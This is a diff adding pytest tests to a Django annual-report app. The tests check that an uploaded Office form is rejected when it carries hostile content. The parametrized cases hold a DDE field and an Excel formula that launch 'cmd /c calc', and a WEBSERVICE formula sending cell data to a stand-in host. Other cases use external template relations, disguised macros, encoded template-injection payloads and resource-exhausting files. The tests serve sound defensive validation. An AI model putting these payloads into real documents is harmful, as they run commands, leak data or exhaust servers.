@@ -13,6 +13,7 @@ from django.urls import reverse
 
 from annual import own_forms
 from annual.models import OwnForm, YearReport
+from privacy.models import AccessEvent
 from tests.annual.test_year_report import asked_for, plan  # noqa: F401  (a fixture)
 from tests.cast import login
 
@@ -100,6 +101,92 @@ def with_part(data: bytes, name: str, content: bytes) -> bytes:
     return made.getvalue()
 
 
+def changed(data: bytes, name: str, old: str, new: str) -> bytes:
+    """The same file, one part of it written otherwise."""
+    made = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as before, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as after:
+        for part in before.namelist():
+            content = before.read(part)
+            if part == name:
+                assert old.encode() in content
+                content = content.replace(old.encode(), new.encode())
+            after.writestr(part, content)
+    return made.getvalue()
+
+
+SHEET, DOCUMENT, RELATIONS = "xl/worksheets/sheet1.xml", "word/document.xml", "word/_rels/document.xml.rels"
+TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+
+
+def with_relation(kind: str, target="http://elsewhere.example/x", mode=' TargetMode="External"') -> bytes:
+    relation = f'<Relationship Id="rId99" Type="{kind}" Target="{target}"{mode}/></Relationships>'
+    return changed(word("{{ name }}"), RELATIONS, "</Relationships>", relation)
+
+
+def with_formula(formula: str) -> bytes:
+    row = f'<row r="20"><c r="A20"><f>{formula}</f></c></row></sheetData>'
+    return changed(excel("数"), SHEET, "</sheetData>", row)
+
+
+def with_field(*pieces: str) -> bytes:
+    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
+    return changed(word("{{ name }}", "HERE"), DOCUMENT, "<w:r><w:t>HERE</w:t></w:r>", runs)
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        pytest.param(with_relation(TEMPLATE), id="a template from elsewhere"),
+        pytest.param(with_relation(TEMPLATE.replace("attachedTemplate", "image")), id="a picture from elsewhere"),
+        pytest.param(
+            with_relation("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "styles.xml", ""),
+            id="macros under another name",
+        ),
+        pytest.param(with_field("DDE", 'AUTO "cmd" "/c calc"'), id="another program"),
+        pytest.param(with_field('INCLUDEPICTURE "http://elsewhere.example/x"'), id="a picture that a field fetches"),
+        pytest.param(with_formula("_xlfn.WEBSERVICE(&quot;http://elsewhere.example/&quot;&amp;B3)"), id="a formula that sends"),
+        pytest.param(with_formula("cmd|'/c calc'!A0"), id="a formula that calls"),
+        pytest.param(
+            word("{{ name }}" * 100, "{{ name " * 50_000),
+            id="brackets without end",
+        ),
+        pytest.param(
+            changed(word("NOTHING {{ name }}"), DOCUMENT, "NOTHING", "&#123;&#123; range(99999999)|list &#125;&#125;"),
+            id="a program in other letters",
+        ),
+        pytest.param(
+            changed(word("{{ name }}", title="NOTHING"), "docProps/core.xml", "NOTHING", "&#123;% for n in range(9) %&#125;x&#123;% endfor %&#125;"),
+            id="a program in other letters among the properties",
+        ),
+        pytest.param(
+            changed(excel("数"), SHEET, "</sheetData>", '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
+            id="all cells merged",
+        ),
+        pytest.param(
+            changed(excel("数"), SHEET, "</sheetData>", '</sheetData><hyperlinks><hyperlink ref="A1:XFD1048576" location="a"/></hyperlinks>'),
+            id="all cells linked",
+        ),
+    ],
+)  # fmt: skip
+def test_what_grows_runs_or_asks_elsewhere_is_refused(data):
+    with pytest.raises(ValidationError):
+        own_forms.read(data)
+
+
+def test_a_link_and_a_reckoning_of_its_own_are_kept():
+    hyperlink = TEMPLATE.replace("attachedTemplate", "hyperlink")
+    assert own_forms.read(with_relation(hyperlink)) == ("docx", ["name"])
+    assert own_forms.read(with_field('HYPERLINK "http://city.example/link"', " PAGE ")) == ("docx", ["name"])
+    assert own_forms.read(with_formula("SUM(B3:B9)*IF(B3&gt;2,1,2)")) == ("xlsx", ["数"])
+
+
+def test_a_field_that_names_the_middle_of_merged_cells_is_written_at_their_beginning():
+    data = changed(excel("数", merged=True), "xl/workbook.xml", "$B$3:$D$3", "$C$3")
+    assert own_forms.read(data) == ("xlsx", ["数"])
+    filled = openpyxl.load_workbook(io.BytesIO(own_forms.filled(OwnForm(file=data, format="xlsx"), {"数": 7})))
+    assert filled.active["B3"].value == 7
+
+
 @pytest.mark.parametrize(
     "data",
     [
@@ -124,6 +211,20 @@ def test_the_refusal_stands_at_the_field_and_the_name_stays(client, manager):
     assert "記入できるExcel" in page
     assert "市への報告" in page
     assert not OwnForm.objects.exists()
+
+
+@pytest.mark.parametrize(("for_whom", "action"), [("office", "report.exact"), ("out", "report.public")])
+def test_that_figures_were_taken_stands_in_the_ledger(client, plan, manager, for_whom, action):  # noqa: F811
+    login(client, manager)
+    report = asked_for(client, for_whom)
+    form = OwnForm.objects.create(council=report.council, name="市へ", format="xlsx", file=excel("数"), taken_by=manager)
+    for address in (
+        reverse("year_report_file", args=[report.pk, "xlsx"]),
+        reverse("own_form_filled", args=[form.pk, report.pk]),
+    ):
+        assert client.get(address).status_code == 200
+    events = AccessEvent.objects.filter(kind="export").order_by("at")
+    assert [(one.action, one.actor, one.model) for one in events] == [(action, manager.pk, "annual.YearReport")] * 2
 
 
 def test_nobody_else_reaches_it(client, plan, manager, caseworker):  # noqa: F811
